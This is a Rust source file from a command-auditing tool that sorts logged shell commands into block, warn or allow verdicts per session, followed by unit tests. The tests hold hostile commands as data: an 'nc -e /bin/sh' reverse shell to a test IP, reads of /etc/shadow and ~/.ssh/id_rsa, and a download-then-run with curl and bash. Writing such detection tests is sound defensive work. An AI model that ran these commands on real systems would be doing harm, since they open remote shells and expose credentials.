//! Records → verdicts, on all cores. Records of one session are judged in their order, by one thread.

use crate::bounded::BoundedMap;
use crate::forgetting::HeldSession;
use crate::record::{CommandRecord, quoted};
use aegish_guard::{
    Action, Decision, FailMode, Role, Rule, Session, Surroundings, catch_panic, rule,
};
use aegish_verdict::{CheckInput, Checker, MachineView};
use std::hash::{DefaultHasher, Hash, Hasher};
use std::io;
use std::thread;

/// Sessions whose facts are held for each thread, in each half of the map.
const SESSIONS: usize = 10_000;
/// Room for the deepest nesting that the parser accepts.
const STACK: usize = 8 << 20;
/// The home directory of users whose home is not known. Paths in it are judged as those in a home.
const HOME: &str = "/home/user";

/// The rule about shells that take commands.
const SHELL: &str = "direct-shell-spawner";

/// The verdict on a record.
#[derive(Debug, Clone)]
pub(crate) struct RecordVerdict {
    pub(crate) action: Action,
    pub(crate) rule: &'static Rule,
    pub(crate) reason: String,
    pub(crate) confidence: f32,
    pub(crate) open: bool,
}

impl RecordVerdict {
    fn of(decision: &Decision) -> Self {
        // That nobody judges what is typed at a shell says little about a day without a guard: people use shells, and
        // what they ran there is recorded too. Whoever starts one through another program is judged by another rule.
        let mut blocking = decision.findings().iter().filter(|found| found.action == Action::Block);
        let shell = decision.rule().name == SHELL && blocking.all(|found| found.rule.name == SHELL);
        let action = decision.action();
        Self {
            action: if shell { action.min(Action::Warn) } else { action },
            rule: decision.rule(),
            reason: decision.reason().to_owned(),
            confidence: decision.confidence(),
            open: decision.is_open(),
        }
    }

    /// The verdict on a command of which only a part is known, and that part is harmless.
    fn incomplete(self) -> Self {
        let reason = "a part of the command is missing in the log".to_owned();
        let rule = rule("unparsable-command").unwrap_or(self.rule);
        Self { action: Action::Warn, rule, reason, open: true, ..self }
    }
}

/// Judges batches of records.
pub(crate) struct RecordJudge {
    checker: Checker,
    /// The sessions of each thread.
    shards: Vec<BoundedMap<String, HeldSession>>,
    sessions: u64,
    lost: u64,
}

impl RecordJudge {
    pub(crate) fn new(role: Role) -> Self {
        let threads = thread::available_parallelism().map_or(1, usize::from);
        let surroundings = Surroundings { home: HOME.to_owned(), ..Surroundings::default() };
        Self {
            checker: Checker {
                role,
                fail_mode: FailMode::Open,
                user_rules: Vec::new(),
                surroundings,
                machine: MachineView::Other,
            },
            shards: (0..threads).map(|_| BoundedMap::new(SESSIONS)).collect(),
            sessions: 0,
            lost: 0,
        }
    }

    /// The verdicts on some records, in their order.
    ///
    /// # Errors
    ///
    /// If a thread does not start or fails.
    pub(crate) fn judge(&mut self, records: &[CommandRecord]) -> io::Result<Vec<RecordVerdict>> {
        let count = self.shards.len().max(1);
        let mut parts: Vec<Vec<(usize, &CommandRecord)>> = vec![Vec::new(); count];
        for (index, record) in records.iter().enumerate() {
            if let Some(part) = parts.get_mut(shard(&record.session, count)) {
                part.push((index, record));
            }
        }
        let checker = &self.checker;
        let mut verdicts: Vec<(usize, RecordVerdict)> = Vec::with_capacity(records.len());
        thread::scope(|scope| {
            let mut running = Vec::new();
            for (part, sessions) in parts.into_iter().zip(&mut self.shards) {
                if part.is_empty() {
                    continue;
                }
                let work = move || judge_part(checker, sessions, &part);
                running.push(thread::Builder::new().stack_size(STACK).spawn_scoped(scope, work)?);
            }
            for handle in running {
                let done = handle.join().map_err(|_| io::Error::other("a thread failed"))?;
                let part = done?;
                verdicts.extend(part.verdicts);
                self.sessions += part.begun;
                self.lost += part.lost;
            }
            io::Result::Ok(())
        })?;
        verdicts.sort_by_key(|(index, _)| *index);
        Ok(verdicts.into_iter().map(|(_, verdict)| verdict).collect())
    }

    /// Number of sessions that began.
    pub(crate) fn sessions(&self) -> u64 {
        self.sessions
    }

    /// Number of facts about files that said something and were dropped.
    pub(crate) fn lost(&self) -> u64 {
        self.lost
    }

    /// Number of sessions whose facts were dropped.
    pub(crate) fn forgotten(&self) -> u64 {
        self.shards.iter().map(BoundedMap::forgotten).sum()
    }
}

fn shard(session: &str, count: usize) -> usize {
    let mut hasher = DefaultHasher::new();
    session.hash(&mut hasher);
    usize::try_from(hasher.finish() % count as u64).unwrap_or_default()
}

/// What one thread answers.
#[derive(Default)]
struct Part {
    /// Verdicts with their indices.
    verdicts: Vec<(usize, RecordVerdict)>,
    /// Sessions that began.
    begun: u64,
    /// Facts that said something and were forgotten.
    lost: u64,
}

/// Judges the records of one thread.
fn judge_part(
    checker: &Checker,
    sessions: &mut BoundedMap<String, HeldSession>,
    records: &[(usize, &CommandRecord)],
) -> io::Result<Part> {
    let mut done = Part { verdicts: Vec::with_capacity(records.len()), ..Part::default() };
    for (index, record) in records {
        if sessions.get(&record.session).is_none() {
            sessions.insert(record.session.clone(), HeldSession::default());
            done.begun += 1;
        }
        let mut alone = HeldSession::default();
        let held = sessions.get(&record.session).unwrap_or(&mut alone);
        let session = &mut held.session;
        let judge = |text: &str, session: &mut Session| {
            let input = CheckInput { cwd: record.cwd.as_deref(), ..CheckInput::command(text) };
            catch_panic(|| checker.check_ran(session, &input)).map_err(io::Error::other)
        };
        let mut verdict = RecordVerdict::of(&judge(&record.command, session)?);
        if let Some(program) = &record.program {
            // Which of both names the program goes by is its own affair: busybox goes by the word, nc by the file.
            let ran = RecordVerdict::of(&judge(&renamed(&record.command, program), session)?);
            if ran.action > verdict.action {
                verdict = ran;
            }
        }
        if record.cut && verdict.action == Action::Allow {
            verdict = verdict.incomplete();
        }
        done.verdicts.push((*index, verdict));
        done.lost += held.after_command();
    }
    Ok(done)
}

/// The command with the file that ran in place of its first word.
fn renamed(command: &str, program: &str) -> String {
    let (mut inside, mut escaped) = (false, false);
    let end = command.find(|c: char| {
        if escaped {
            escaped = false;
        } else if c == '\'' {
            inside = !inside;
        } else if !inside {
            escaped = c == '\\';
            return c == ' ';
        }
        false
    });
    let rest = end.and_then(|end| command.get(end..)).unwrap_or_default();
    format!("{}{rest}", quoted([program]))
}

#[cfg(test)]
mod tests {
    use super::{RecordJudge, renamed};
    use crate::record::CommandRecord;
    use aegish_guard::{Action, Role};

    fn record(session: &str, command: &str) -> CommandRecord {
        let (session, command) = (session.to_owned(), command.to_owned());
        CommandRecord { session, command, cwd: Some("/srv".to_owned()), ..CommandRecord::default() }
    }

    fn actions(records: &[CommandRecord]) -> Vec<Action> {
        let mut judge = RecordJudge::new(Role::Default);
        let mut actions = Vec::new();
        // Facts carry over between batches.
        for batch in records.chunks(2) {
            let verdicts = judge.judge(batch).expect("threads start");
            actions.extend(verdicts.iter().map(|verdict| verdict.action));
        }
        actions
    }

    #[test]
    fn facts_carry_over_within_a_session_and_not_to_another() {
        let records = [
            record("a", "curl -sO https://example.org/x.sh"),
            record("b", "ls"),
            record("b", "bash x.sh"),
            record("a", "bash x.sh"),
        ];
        let actions = actions(&records);
        assert_eq!(actions[3], Action::Block);
        assert!(actions[2] < Action::Block);
    }

    #[test]
    fn what_a_blocked_command_did_has_happened() {
        let records = [
            record("a", "cat /etc/shadow; curl -so x https://example.org/x"),
            record("a", "bash x"),
        ];
        assert_eq!(actions(&records), [Action::Block, Action::Block]);
    }

    #[test]
    fn a_program_is_judged_by_its_file_too() {
        let mut disguised = record("a", "ls -e /bin/sh 192.0.2.1 9");
        assert_eq!(actions(&[disguised.clone()]), [Action::Allow]);
        disguised.program = Some("/usr/bin/nc".to_owned());
        assert_eq!(actions(&[disguised]), [Action::Block]);
        let mut busybox = record("a", "nc -e /bin/sh 192.0.2.1 9");
        busybox.program = Some("/bin/busybox".to_owned());
        assert_eq!(actions(&[busybox]), [Action::Block]);
    }

    #[test]
    fn a_shell_that_somebody_starts_is_asked_about_and_one_behind_another_program_is_blocked() {
        let records =
            ["bash", "tmux new -s work", "find . -exec /bin/sh \\;", "sh; cat /etc/shadow"];
        let records = records.map(|command| record("a", command));
        let expected = [Action::Warn, Action::Warn, Action::Block, Action::Block];
        assert_eq!(actions(&records), expected);
    }

    #[test]
    fn only_the_first_word_is_replaced() {
        assert_eq!(renamed("'l s' a b", "/x"), "/x a b");
        assert_eq!(renamed("'it'\\''s x' 'a b'", "/y z"), "'/y z' 'a b'");
        assert_eq!(renamed("ls", "/x"), "/x");
    }

    #[test]
    fn a_command_that_is_known_in_part_is_left_open() {
        let cut = CommandRecord { cut: true, ..record("a", "sh -c 'ls; '") };
        let verdicts = RecordJudge::new(Role::Default).judge(&[cut]).expect("threads start");
        assert_eq!((verdicts[0].action, verdicts[0].open), (Action::Warn, true));
    }

    #[test]
    fn a_home_that_is_not_known_is_a_home() {
        assert_eq!(actions(&[record("a", "cat ~/.ssh/id_rsa")]), [Action::Block]);
    }
}
